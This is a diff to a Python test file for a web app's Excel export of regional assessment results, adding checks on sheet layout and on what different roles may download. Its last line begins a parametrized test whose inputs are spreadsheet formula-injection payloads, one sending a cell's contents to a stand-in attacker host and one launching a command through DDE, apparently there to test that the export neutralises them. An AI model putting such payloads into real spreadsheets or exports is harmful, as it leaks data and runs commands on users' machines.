@@ -7,7 +7,7 @@ import re
 from pathlib import Path
 
 import pytest
-from drive import Driver
+from drive import Driver, unit_scores
 from openpyxl import load_workbook
 from web_fixtures import BEIJING, TIANJIN, add_web_user, login, post, set_passwords
 
@@ -66,8 +66,36 @@ def test_results_chart_ranking_and_excel(client, scored):
     assert response.mimetype.endswith("spreadsheetml.sheet")
     sheet = load_workbook(io.BytesIO(response.data)).active
     rows = list(sheet.iter_rows(min_row=3, values_only=True))
-    assert rows == [(1, BEIJING, "北京市", 91.5, "A", "否", "通报表扬"),
-                    (2, TIANJIN, "天津市", 55, "D", "否", "书面整改")]
+    assert rows == [(1, BEIJING, "北京市", 91.5, "A", "否", "通报表扬", 100),  # the self-evaluation's total last
+                    (2, TIANJIN, "天津市", 55, "D", "否", "书面整改", 100)]
+
+
+def test_the_workbook_has_a_sheet_per_part_and_per_unit_with_self_beside_assessed(client, scored):
+    """What an assessment office files: every indicator per region, self score beside assessed score, what each
+    member unit gave and why, the veto items; the announcement's date once announced. A results recipient gets
+    the ranking only (issue 12, item 10)."""
+    scored.approve_and_announce()
+    login(client, "lead_agency")
+    book = load_workbook(io.BytesIO(client.get(f"/campaigns/{scored.campaign.id}/results.xlsx").data))
+    scheme = scored.scheme
+    parts = [f"{p['name']}（{p['points']}分）" for p in scheme["parts"]]
+    units = [u["name"] for u in scheme["units"]]
+    assert book.sheetnames == ["考核结果", *parts, *units, "否决项"]
+    assert book["考核结果"]["A2"].value.startswith("公告日期：")
+    targets = book[parts[0]]
+    head = [c.value for c in targets[1]]
+    first = next(i for i in scheme["indicators"] if i["part"] == scheme["parts"][0]["code"])
+    assert head[3:5] == [f"{first['code']} {first['name']}（{first['points']}分）自评", f"{first['code']} 考核"]
+    beijing = next(row for row in targets.iter_rows(min_row=2, values_only=True) if row[1] == BEIJING)
+    assert beijing[3] == first["points"]  # the self-evaluation gave full points
+    given = {r["indicator"]: r["score"] for r in unit_scores(scheme, "91.5")[first["unit"]]}
+    assert beijing[4] == given[first["code"]]
+    moa = book[next(u["name"] for u in scheme["units"] if u["code"] == "moa")]
+    assert [c.value for c in moa[1]][3:5] == ["T2 主要农产品质量安全监测合格率（13分）", "评分依据"]
+    assert next(r for r in moa.iter_rows(min_row=2, values_only=True) if r[1] == BEIJING)[4]  # its basis
+    login(client, "recipient")
+    assert load_workbook(io.BytesIO(client.get(f"/campaigns/{scored.campaign.id}/results.xlsx").data)).sheetnames \
+        == ["考核结果"]
 
 
 @pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?"&A1,"点此查看")', "+1+cmd|' /C calc'!A0",
